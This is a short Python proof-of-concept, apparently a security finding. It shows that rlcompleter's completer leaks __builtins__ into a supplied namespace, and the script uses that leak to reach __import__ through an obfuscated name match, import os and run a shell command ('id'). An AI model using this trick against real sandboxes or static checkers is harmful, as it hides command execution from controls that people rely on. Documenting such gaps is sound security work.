# rlcompleter.Completer.complete is documented as not reported ("evaluates only
# dotted names of the namespace it is given"). Its eval() adds __builtins__ to
# that namespace: the program gets the builtins dict back without naming it,
# and imports os through it.
import rlcompleter

scope = {"config": object()}
rlcompleter.Completer(scope).complete("config.x", 0)

leaked = [value for key, value in scope.items() if key != "config"][0]
loader = [leaked[k] for k in leaked if k.endswith("port__")][0]
print(loader("os").popen("id").read())
